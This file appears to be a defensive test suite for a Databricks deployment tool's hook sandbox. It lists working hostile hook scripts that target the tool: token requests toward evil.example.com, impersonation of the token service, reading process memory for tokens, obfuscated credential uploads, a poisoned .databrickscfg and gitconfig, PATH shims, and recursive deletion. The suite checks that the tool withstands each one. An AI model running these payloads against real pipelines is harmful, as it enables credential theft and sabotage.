import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { ran, unharmed, type Attack, type Attacked } from "./attack.ts";
import { LEAK } from "./hiding-places.ts";

/** Code for a source with a token, in a form that the scan of the attack itself does not see. */
export const HIDDEN = `Buffer.from([${[...Buffer.from(LEAK)].map((byte) => byte + 1).join()}].map((byte) => byte - 1))`;

export const locksOf = ({ sandbox }: Attacked): string[] =>
  [...sandbox.workspace.files.objects.keys()].filter((name) => name.endsWith("/deploy.lock"));
export const stopped =
  (code: string) =>
  (attacked: Attacked): void => {
    ran(attacked);
    assert.equal(attacked.code, code, attacked.log);
    assert.equal(attacked.succeeded, false, attacked.log);
  };

/** A detached program with nothing of the run in its environment. */
export const aside = (code: string): string =>
  `spawn(process.execPath, ["-e", ${JSON.stringify(code)}], { detached: true, stdio: "ignore", env: {} }).unref();`;

export const MORE_ATTACKS: readonly Attack[] = [
  {
    what: "asks the token service itself, for this host and others",
    hook: "prebuild",
    code: `const own = await ask(); saw([own.status, Object.keys(await own.json())]);
      for (const host of ["https://evil.example.com", process.env.DATABRICKS_HOST + ".evil.example.com", process.env.DATABRICKS_HOST + "?o=1", "http://localhost:" + new URL(process.env.DATABRICKS_HOST).port]) { const answer = await ask(host); saw([host.slice(0, 20), answer.status, await answer.text()]); }`,
    holds: (attacked) => {
      unharmed(attacked);
      const [own, ...others] = attacked.seen as [unknown, ...[string, number, string][]];
      assert.deepEqual(own, [200, ["access_token", "token_type", "expires_on"]]);
      for (const [, status, text] of others.filter((one) => typeof one[0] === "string"))
        assert.deepEqual([status, text], [403, "refused"]);
    },
  },
  {
    what: "ends the token service",
    hook: "prebuild",
    code: `saw([step, service]); process.kill(service, "SIGKILL");`,
    holds: stopped("TOKEN_SERVICE_LOST"),
  },
  {
    what: "ends the token service and takes over its port with a token that it got",
    hook: "prebuild",
    code: `if (command !== "deploy") return saw(command);
      const body = await (await ask()).text(); const port = Number(new URL(process.env.DATABRICKS_METADATA_SERVICE_URL).port);
      saw([command, service]); process.kill(service, "SIGKILL");
      await new Promise((resolve) => setTimeout(resolve, 300));
      const code = 'require("http").createServer((q, r) => r.writeHead(200, {"content-type":"application/json"}).end(' + JSON.stringify(body) + ')).listen(' + port + ', "127.0.0.1"); setTimeout(() => process.exit(), 20000)';
      spawn(process.execPath, ["-e", code], { detached: true, stdio: "ignore", env: {} }).unref();
      await new Promise((resolve) => setTimeout(resolve, 700));`,
    holds: stopped("TOKEN_SERVICE_LOST"),
  },
  {
    what: "reads environment, arguments and memory of step and service",
    hook: "prebuild",
    code: `const secretOf = (pid) => { const found = variables(pid); return Object.keys(found).filter((name) => /TOKEN|SECRET|INPUT/.test(name)); };
      saw(["step", secretOf(step)]); saw(["service", Object.keys(variables(service)), fs.readFileSync("/proc/" + service + "/cmdline", "utf8").length]);
      const { access_token } = await (await ask()).json();
      const holds = (pid) => { try { const maps = fs.readFileSync("/proc/" + pid + "/maps", "utf8").split("\\n").filter((line) => / rw-p /.test(line)); const fd = fs.openSync("/proc/" + pid + "/mem", "r"); for (const line of maps) { const [from, to] = line.split(" ")[0].split("-").map((hex) => parseInt(hex, 16)); const size = Math.min(to - from, 1 << 26); const buffer = Buffer.alloc(size); try { fs.readSync(fd, buffer, 0, size, from); } catch { continue; } if (buffer.includes(access_token)) return true; } return false; } catch (error) { return error.code; } };
      saw(["memory", holds(step), holds(service)]);`,
    holds: (attacked) => {
      unharmed(attacked);
      const service = (attacked.seen as [string, string[], number][]).find(([of]) => of === "service");
      const allowed = /^(?:NODE_|SSL_CERT|OPENSSL|DATABRICKS_SECRETLESS_SERVICE$|$)/;
      assert.deepEqual(
        service?.[1].filter((name) => !allowed.test(name)),
        [],
      );
      // docs/security.md says that memory is open to code of the same user: of both, whatever this runner allows.
    },
  },
  {
    what: "writes into the pipe between step and service",
    hook: "prebuild",
    code: `for (const [pid, fd] of [[service, 0], [service, 1], [step, 1]]) { try { const link = fs.readlinkSync("/proc/" + pid + "/fd/" + fd); const handle = fs.openSync("/proc/" + pid + "/fd/" + fd, "w"); fs.writeSync(handle, '{"type":"stop"}\\nno json\\n'); saw([fd, link.slice(0, 7), "written"]); } catch (error) { saw([fd, error.code]); } }`,
    holds: (attacked) => {
      unharmed(attacked);
      assert.deepEqual(
        new Set((attacked.seen as [number, string][]).map(([, how]) => how)),
        new Set(["ENXIO"]),
      );
    },
  },
  {
    what: "stops the token service by its control path",
    hook: "prebuild",
    code: `const base = new URL(process.env.DATABRICKS_METADATA_SERVICE_URL); const tries = [];
      for (const route of ["/", "/stop", base.pathname]) { const answer = await fetch(base.origin + route, { method: "POST" }); tries.push([answer.status, await answer.text()]); } saw(tries);`,
    holds: (attacked) => {
      unharmed(attacked);
      for (const tries of attacked.seen as [number, string][][])
        for (const one of tries) assert.deepEqual(one, [403, "refused"]);
    },
  },
  {
    what: "floods the token service",
    hook: "prebuild",
    code: `const { port } = new URL(process.env.DATABRICKS_METADATA_SERVICE_URL); const all = [];
      for (let at = 0; at < 2000; at++) { const socket = net.connect(Number(port), "127.0.0.1", () => socket.write("GET /" + "x".repeat(7000) + " HTTP/1.1\\r\\nhost: 127.0.0.1:" + port + "\\r\\n\\r\\n")); socket.on("error", () => {}); all.push(socket); }
      await new Promise((resolve) => setTimeout(resolve, 1500)); saw(all.length);`,
    holds: unharmed,
  },
  {
    what: "prints 300 MB without an end of line, and workflow commands",
    hook: "postdeploy",
    code: `const piece = "x".repeat(1 << 20); for (let at = 0; at < 300; at++) fs.writeSync(1, piece); fs.writeSync(1, "\\n::set-output name=jobs::forged\\n##vso[task.setvariable variable=x]forged\\n::add-mask::a\\n"); saw(fs.readFileSync("/proc/" + step + "/status", "utf8").match(/VmHWM:\\s+(\\d+)/)[1]);`,
    holds: (attacked) => {
      unharmed(attacked);
      assert.ok(Number(attacked.seen[0]) < 150_000, "kilobytes that the step has held at most");
      assert.doesNotMatch(
        attacked.rawLog,
        /^::set-output|^##vso\[task.setvariable variable=x|^::add-mask::a$/m,
      );
      assert.ok(attacked.rawLog.length < 1_000_000);
    },
  },
  {
    what: "writes outputs, variables, state and summary of the job",
    hook: "postdeploy",
    code: `const of = variables(step); for (const name of ["GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STATE", "GITHUB_PATH"]) if (of[name]) fs.appendFileSync(of[name], "\\njobs=forged\\nFORGED=1\\nfolder=/\\nservice=1 2 3 4\\n"); saw(Object.keys(of).filter((name) => /^GITHUB_(OUTPUT|ENV|STATE|PATH|STEP_SUMMARY)$/.test(name)));`,
    holds: (attacked) => {
      // docs/security.md: code of the bundle owns the rest of its job. Nothing is removed or ended for it.
      unharmed(attacked);
      assert.doesNotMatch(attacked.log, /folder of a run .* was removed|Ended what/);
    },
  },
  {
    what: "kills the step in the middle of a deployment",
    hook: "predeploy",
    code: `saw([command, step]); process.kill(step, "SIGKILL");`,
    holds: (attacked) => {
      ran(attacked);
      assert.equal(attacked.succeeded, false);
      assert.match(attacked.log, /temporary folder of a run that did not end well was removed/);
      assert.deepEqual(locksOf(attacked), []);
    },
  },
  {
    what: "rewrites access.yml, policy and bundle after they were read",
    hook: "postdeploy",
    code: `saw(1); fs.writeFileSync("access.yml", "version: 1\\njobs: {}\\n"); fs.writeFileSync("databricks.yml", "bundle: { name: other }\\n"); fs.writeFileSync("policy.yml", "");`,
    holds: unharmed,
  },
  {
    what: "writes another commit into .git",
    hook: "preinit",
    code: `saw(command); fs.writeFileSync(".git/HEAD", "f".repeat(40) + "\\n");`,
    holds: (attacked) => {
      unharmed(attacked);
      assert.ok(!attacked.summary.includes("f".repeat(40)));
    },
  },
  {
    what: "makes the audit log a folder",
    hook: "prebuild",
    inputs: { "audit-log": "audit.jsonl", auditLog: "audit.jsonl" },
    code: `saw(fs.existsSync("audit.jsonl")); fs.rmSync("audit.jsonl", { force: true, recursive: true }); fs.mkdirSync("audit.jsonl");`,
    holds: stopped("AUDIT_LOG_UNWRITABLE"),
  },
  {
    what: "makes the audit log a link",
    hook: "prebuild",
    inputs: { "audit-log": "audit.jsonl", auditLog: "audit.jsonl" },
    code: `saw(1); fs.rmSync("audit.jsonl", { force: true, recursive: true }); fs.symlinkSync("precious", "audit.jsonl"); fs.existsSync("precious") || fs.writeFileSync("precious", "kept");`,
    holds: stopped("AUDIT_LOG_UNWRITABLE"),
  },
  {
    what: "empties the audit log",
    hook: "postdeploy",
    inputs: { "audit-log": "audit.jsonl", auditLog: "audit.jsonl" },
    code: `saw(fs.readFileSync("audit.jsonl", "utf8").split("\\n").length); fs.writeFileSync("audit.jsonl", "");`,
    holds: unharmed,
  },
  {
    what: "uploads a token to the bundle's folder behind the deployment",
    hook: "postdeploy",
    code: `const me = JSON.parse(await api("GET", "/api/2.0/preview/scim/v2/Me")).userName; const content = ${HIDDEN}.toString("base64");
      saw(await api("POST", "/api/2.0/workspace/import", { path: "/Workspace/Users/" + me + "/.bundle/lakehouse-jobs/prod/files/late.py", format: "AUTO", overwrite: true, content }));`,
    holds: stopped("CREDENTIAL_UPLOADED"),
  },
  {
    what: "changes a source between scan and upload",
    hook: "prebuild",
    code: `if (command !== "deploy") return saw(command); saw(command); fs.writeFileSync("src/late.py", ${HIDDEN});`,
    holds: stopped("CREDENTIAL_UPLOADED"),
  },
  {
    what: "leaves a program without its environment behind",
    hook: "postdeploy",
    code: `saw(1); ${aside("setTimeout(() => {}, 15000)")}`,
    holds: unharmed,
  },
  {
    what: "changes the private home and the CLI's configuration",
    hook: "preinit",
    code: `saw(process.env.HOME); fs.writeFileSync(path.join(process.env.HOME, ".databrickscfg"), "[DEFAULT]\\nhost = https://evil.example.com\\ntoken = dapi0\\n"); fs.writeFileSync(path.join(process.env.HOME, ".gitconfig"), "[core]\\n\\tfsmonitor = touch /tmp/x\\n");`,
    holds: unharmed,
  },
  {
    what: "empties the private folder",
    hook: "postdeploy",
    code: `saw(1); fs.rmSync(path.join(process.env.DATABRICKS_BUNDLE_TMP, ".."), { recursive: true, force: true });`,
    holds: stopped("HOST_NOT_APPROVED"),
  },
  {
    what: "puts a link in the place of the private folder",
    hook: "postdeploy",
    code: `const root = path.join(process.env.DATABRICKS_BUNDLE_TMP, ".."); const precious = path.join(path.dirname(SEEN), "precious"); fs.mkdirSync(precious); fs.writeFileSync(precious + "/kept", ""); saw(precious); fs.renameSync(root, root + "-away"); fs.symlinkSync(precious, root);`,
    holds: (attacked) => {
      stopped("HOST_NOT_APPROVED")(attacked);
      assert.ok(readdirSync(String(attacked.seen[0])).includes("kept"));
    },
  },
  {
    what: "puts other programs in front of PATH and Node's own options",
    hook: "preinit",
    code: `saw(1); for (const name of ["databricks", "git", "node"]) fs.writeFileSync(name, "#!/bin/sh\\ntouch shim-ran\\n", { mode: 0o755 });`,
    holds: unharmed,
  },
  {
    what: "stops the step for a while",
    hook: "postdeploy",
    code: `saw(1); process.kill(step, "SIGSTOP"); await new Promise((resolve) => setTimeout(resolve, 1000)); process.kill(step, "SIGCONT");`,
    holds: unharmed,
  },
  {
    what: "sends the step signals that open or end nothing",
    hook: "postdeploy",
    code: `saw(1); for (const signal of ["SIGUSR1", "SIGPIPE", "SIGWINCH"]) { process.kill(step, signal); await new Promise((resolve) => setTimeout(resolve, 50)); } try { await fetch("http://127.0.0.1:9229/json"); saw("inspector"); } catch { saw("none"); }`,
    holds: unharmed,
  },
  {
    what: "writes an endless plan",
    hook: "prebuild",
    code: `saw(1); fs.writeSync(1, '{"plan":{}}\\n'.repeat(1000));`,
    holds: unharmed,
  },
];
